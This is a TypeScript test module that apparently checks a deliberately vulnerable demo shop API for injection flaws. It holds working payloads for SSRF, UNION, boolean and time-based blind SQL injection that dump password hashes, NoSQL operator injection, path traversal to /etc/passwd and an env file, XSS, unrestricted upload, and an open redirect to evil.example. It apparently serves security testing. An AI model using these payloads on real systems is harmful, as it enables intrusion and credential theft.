import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Attack, Target } from './target.ts';

const median = (values: number[]): number => values.toSorted((one, other) => one - other)[values.length >> 1] ?? 0;

const UNION = "zz%' UNION SELECT id,0,login,password_hash,role,1,1,1,1 FROM users--";

/** Keeps SQLite busy for a while. */
const BUSY = '(WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM c LIMIT 2000000) SELECT count(*) FROM c)>0';

/** API7, and what of API8 makes the market do or say something else. */
export const INJECTION_ATTACKS = {
  ssrf: async (market) => {
    let called = false;
    const listener = createServer((_, response) => {
      called = true;
      response.end('secret of the inside');
    }).listen(0, '127.0.0.1');
    await once(listener, 'listening');
    try {
      const { port } = listener.address() as AddressInfo;
      const body = { url: `http://127.0.0.1:${port}/inside` };
      const answer = await market.ask('POST', '/api/shops/1/products/import', { as: 'marta', body });
      return [called, answer.text.includes('secret of the inside')];
    } finally {
      listener.closeAllConnections();
      listener.close();
    }
  },
  'sql-errors': async (market) => {
    const search = (text: string) =>
      market.ask('GET', `/api/shops/1/products?${new URLSearchParams({ search: text })}`);
    const broken = await search("pot'");
    return [/syntax error|unrecognized token/.test(broken.text), (await search(UNION)).text.includes('$argon2id$')];
  },
  'sql-boolean': async (market) => {
    const total = async (category: string) => {
      const answer = await market.ask('GET', `/api/shops/1/products?${new URLSearchParams({ category })}`);
      return answer.json.data?.total;
    };
    const right = await total("garden' AND (SELECT substr(password_hash,2,1) FROM users WHERE id=10)='a");
    const wrong = await total("garden' AND (SELECT substr(password_hash,2,1) FROM users WHERE id=10)='b");
    return [right === 3 && wrong === 0, (await total("garden'")) === 0 && (await total("x' OR 'a'='a")) > 0];
  },
  'sql-blind': async (market) => {
    const time = async (campaign: string) => {
      const begun = performance.now();
      await market.ask('GET', '/api/shops', { headers: { 'x-campaign': campaign } });
      return performance.now() - begun;
    };
    const idle: number[] = [];
    const busy: number[] = [];
    for (let i = 0; i < 3; i += 1) {
      idle.push(await time(`x' OR 'a'='b' AND ${BUSY} --`));
      busy.push(await time(`x' OR 'a'='a' AND ${BUSY} --`));
    }
    // How long it takes depends on the machine; that it takes many times as long does not.
    return [median(busy) > 8 * median(idle) && median(busy) > 40];
  },
  'nosql-operators': async (market) => {
    const check = (code: unknown) => market.ask('POST', '/api/coupons/check', { as: 'noor', body: { code } });
    return [(await check({ $ne: '' })).ok, (await check({ $gt: 'SPRING-20' })).json.data?.code === 'SPRING-21'];
  },
  'path-traversal': async (market) => {
    const get = async (name: string) => (await market.ask('GET', `/api/files?${new URLSearchParams({ name })}`)).text;
    return [
      (await get('../../../etc/passwd')).includes('root:x:0:0'),
      (await get('..\\market.env')).includes('DATABASE_PASSWORD'),
      (await get('./terms.txt')).includes('thirty days'),
    ];
  },
  'reflected-script': async (market) => [(await invoice(market, 1, '<script>a(1)</script>')).includes('<script>')],
  'stored-script': async (market) => {
    const note = '<img src=x onerror=a(1)>';
    const ship_to = { name: 'X', street: 'Y 1', city: 'Z', postcode: '1210 QX' };
    const body = { items: [{ product_id: 1, quantity: 1 }], ship_to, note };
    const { json } = await market.ask('POST', '/api/orders', { as: 'noor', body });
    return [(await invoice(market, json.data.id, 'x')).includes(note)];
  },
  'upload-anything': async (market) => {
    const path = '/api/users/2/avatar';
    const page = await market.ask('PUT', path, {
      as: 'tobias',
      headers: { 'content-type': 'text/html' },
      raw: '<script>a(1)</script>',
    });
    const shown = await market.ask('GET', path, { as: 'noor' });
    const lie = await market.ask('PUT', path, {
      as: 'tobias',
      headers: { 'content-type': 'image/png' },
      raw: 'MZ no picture',
    });
    return [page.ok, shown.headers.get('content-type') === 'text/html', lie.ok];
  },
  'open-redirect': async (market) => {
    const location = async (to: string) =>
      (await market.ask('GET', `/api/go?${new URLSearchParams({ to })}`)).headers.get('location');
    const far = 'https://evil.example/x';
    return [(await location(far)) === far, (await location('//evil.example/')) === '//evil.example/'];
  },
} as const satisfies Record<string, Attack>;

const invoice = async (market: Target, order: number, reference: string): Promise<string> =>
  (await market.ask('GET', `/api/orders/${order}/invoice?${new URLSearchParams({ reference })}`, { as: 'noor' })).text;
